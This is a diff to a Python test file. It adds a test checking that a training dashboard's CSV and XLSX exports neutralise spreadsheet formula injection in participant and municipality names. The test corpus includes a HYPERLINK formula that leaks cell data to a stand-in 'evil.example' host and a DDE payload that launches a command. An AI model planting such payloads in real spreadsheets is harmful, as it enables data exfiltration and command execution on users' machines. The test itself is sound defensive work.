@@ -12,7 +12,15 @@ from sqlalchemy import event, select
 from app.cohorts import dashboard, service
 from app.cohorts.exports import neutralise
 from app.extensions import db
-from app.models import Cohort, CohortMember, ModuleProgress, MunicipalRole, SiteRole, User
+from app.models import (
+    Cohort,
+    CohortMember,
+    ModuleProgress,
+    Municipality,
+    MunicipalRole,
+    SiteRole,
+    User,
+)
 from app.models.base import utcnow
 from tests.helpers import PASSWORD, csrf_token, login, make_municipality, make_user, soup, text_of
 
@@ -331,3 +339,100 @@ def test_last_activity_is_shown_and_sorts(app, trainer):
     ]
     assert activity[:2] != ["—", "—"]  # participants with progress come first
     assert activity[-1] == "—"
+
+
+# ---------------------------------------------------------------- T-EXP-1 and T-EXP-2
+
+FORMULA_CORPUS = [
+    "=1+1",
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1",
+    "\n=1",
+    "\t=1+1",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "=cmd|' /c calc'!A1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "  =1+1",
+    " @SUM(A1)",
+    '"quoted", with, commas',
+    "line\r\nbreak",
+    "Kandy",
+    "\x01control\x1f",
+    "\x01=1+1",
+]
+DANGEROUS_STARTS = set("=+-@\t\r\n\0") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}
+
+
+def unsafe_cells(cells) -> list[str]:
+    """Text a spreadsheet could run: a formula start (after any spaces) without the '."""
+    return [
+        cell
+        for cell in cells
+        if isinstance(cell, str)
+        and (cell[:1] in DANGEROUS_STARTS or cell.lstrip(" ")[:1] in DANGEROUS_STARTS)
+        and not cell.startswith("'")
+    ]
+
+
+def test_exports_neutralise_every_formula_and_round_trip(app, trainer):
+    """T-EXP-1 and T-EXP-2: every participant name and municipality name (the text people
+    type that reaches the dashboard exports) is set to a value of a formula-injection corpus;
+    the three CSV tables and the XLSX workbook are downloaded and parsed. CSV: no cell starts
+    (after spaces) with = + - @ TAB CR LF NUL or their full-width forms without the ' prefix,
+    and each value comes back exactly through RFC 4180 quoting. NUL cannot be stored in
+    PostgreSQL text, so it goes through the exporter directly. XLSX: no formula cell, every
+    text cell of type 's'; a control character in a name (which XLSX cannot hold) is dropped
+    instead of failing the whole export."""
+    from app.cohorts.exports import to_csv
+
+    cohort_id = make_cohort(app, trainer.user_id)
+    with app.app_context():
+        cohort = db.session.get(Cohort, cohort_id)
+        for number, value in enumerate(FORMULA_CORPUS):
+            city = Municipality(name=value, country="LK", region="South Asia")
+            person = User(email=f"f{number}@example.org", name=value, password_hash="x")
+            db.session.add_all([city, person])
+            db.session.flush()
+            db.session.add(
+                CohortMember(cohort_id=cohort.id, user_id=person.id, municipality_id=city.id)
+            )
+        db.session.commit()
+    cells, tables = [], {}
+    for table in ("matrix", "cities", "modules"):
+        response = trainer.get(f"/cohorts/{cohort_id}/export.csv?table={table}")
+        assert response.status_code == 200
+        text = response.data.decode("utf-8-sig")
+        tables[table] = list(csv.reader(io.StringIO(text, newline="")))
+        cells += [cell for row in tables[table] for cell in row]
+    direct = next(csv.reader(io.StringIO(to_csv([["\0=1+1", "\0"]]).decode("utf-8-sig"))))
+    cells += direct
+    names = {row[0] for row in tables["matrix"][1:]} | {row[0] for row in tables["cities"][1:]}
+    round_trips = all(
+        value in names or "'" + value in names for value in FORMULA_CORPUS
+    ) and direct == ["'\0=1+1", "'\0"]
+    unsafe = unsafe_cells(cells)
+    print(
+        f"\nT-EXP-1: {len(cells)} cells exported ({len(FORMULA_CORPUS)} corpus values in "
+        f"names of people and municipalities, 3 CSV tables); {len(unsafe)} cells whose first "
+        f"character is in = + - @ \\t \\r \\0 without the ' prefix; RFC 4180 quoting "
+        f"round-trips: {round_trips}"
+    )
+    assert unsafe == [] and round_trips
+
+    workbook = openpyxl.load_workbook(
+        io.BytesIO(trainer.get(f"/cohorts/{cohort_id}/export.xlsx").data)
+    )
+    book_cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    formulas = [c for c in book_cells if c.data_type == "f"]
+    texts = [c for c in book_cells if isinstance(c.value, str)]
+    print(
+        f"T-EXP-2: {len(book_cells)} XLSX cells, {len(texts)} text cells, all of type "
+        f"'s': {all(c.data_type == 's' for c in texts)}; {len(formulas)} formula cells; "
+        f"{len(unsafe_cells(c.value for c in texts))} unprefixed formula starts"
+    )
+    assert formulas == [] and all(c.data_type == "s" for c in texts)
+    assert unsafe_cells(c.value for c in texts) == []
